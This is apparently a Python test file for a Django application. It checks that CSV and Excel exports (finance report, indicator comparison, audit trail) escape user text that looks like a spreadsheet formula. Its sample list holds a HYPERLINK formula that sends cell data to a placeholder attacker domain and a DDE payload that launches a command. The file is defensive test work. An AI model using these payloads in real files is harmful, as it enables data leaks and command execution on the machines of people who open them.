"""Formula injection (R-SEC-6, R-INT-4): user text in every export stays text.

The payment batch is tested in invoices/tests/test_services.py; here the shared kit and the
other xlsx writers (finance/KPI report, indicator comparison, audit trail) with hostile text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from opstap.core.export_safety import (
    csv_row,
    csv_value,
    is_formula_like,
    save_workbook,
    write_only_text,
    xlsx_value,
)

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes, expected: list[str]) -> None:
    """No cell is a formula, and every hostile text is present as text."""
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert text.replace("\r", "") in {t.replace("\r", "") for t in texts}


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_value_prefixes_formula_like_text(text: str) -> None:
    """R-SEC-6: a CSV text cell that a spreadsheet would evaluate gets a leading apostrophe."""
    assert csv_value(text) == "'" + text
    assert csv_value("Bakkali") == "Bakkali"
    assert csv_value(-12) == -12  # numbers we write ourselves are not text


@given(st.text(max_size=30))
def test_no_csv_cell_starts_like_a_formula(text: str) -> None:
    """R-SEC-6: whatever a user typed, the CSV cell never starts like a formula."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerow(csv_row([text]))
    (cell,) = next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) or [""]
    assert not is_formula_like(cell)


@given(st.text(max_size=30))
def test_no_xlsx_cell_is_a_formula(text: str) -> None:
    """R-SEC-6: whatever a user typed, the xlsx cell is text (normal and write-only mode)."""
    normal = Workbook()
    normal.active.append([xlsx_value(text)])  # type: ignore[union-attr]
    out = io.BytesIO()
    save_workbook(normal, out)
    assert [c for c in _cells(out.getvalue()) if c.data_type == "f"] == []
    streamed = Workbook(write_only=True)
    sheet = streamed.create_sheet("a")
    sheet.append([write_only_text(sheet, text)])
    out = io.BytesIO()
    streamed.save(out)
    assert [c for c in _cells(out.getvalue()) if c.data_type == "f"] == []


def test_finance_and_kpi_report_write_text_as_text() -> None:
    """R-SEC-6, R-INT-4: the model/KPI report writes a scenario name and text cells as text."""
    from opstap.core.exports import report_xlsx
    from opstap.core.reports import Cell, Report, Table

    report = Report(
        title="Rapport",
        summary=((HOSTILE[1], Cell(HOSTILE[2])),),
        tables=(Table(title="T", headers=("a", "b"), rows=((Cell(HOSTILE[3]), Cell(5, "int")),)),),
    )
    assert_no_formula(report_xlsx(report, scenario_name=HOSTILE[0]), HOSTILE[:4])


def test_indicator_comparison_writes_provider_names_as_text() -> None:
    """R-SEC-6, R-INT-4: a provider or product named like a formula stays text."""
    from opstap.indicators.computation import Period
    from opstap.indicators.exports import comparison_xlsx
    from opstap.indicators.selectors import Comparison, Row

    rows = [
        Row(id=i, name=name, facts=None, results=(), provider_id=i)  # type: ignore[arg-type]
        for i, name in enumerate((HOSTILE[0], HOSTILE[3], HOSTILE[4]), start=1)
    ]
    period = Period(dt.date(2026, 1, 1), dt.date(2026, 3, 31))
    data = comparison_xlsx(Comparison(period=period, rows=rows, total=None), [])
    assert_no_formula(data, [HOSTILE[0], HOSTILE[3], HOSTILE[4]])


def test_audit_export_writes_purposes_as_text() -> None:
    """R-SEC-6, R-SEC-2: an audit purpose or object id typed like a formula stays text."""
    from django.utils import timezone

    from opstap.audit.export import write_audit_xlsx
    from opstap.audit.models import AuditRecord

    record = AuditRecord(
        timestamp=timezone.now(),
        actor_username="@kees",
        action="view",
        object_type="client",
        object_id="=1+1",
        purpose=HOSTILE[0],
        result="ok",
    )
    output, count = write_audit_xlsx([record])
    assert count == 1
    assert_no_formula(output.read(), ["@kees", "=1+1", HOSTILE[0]])
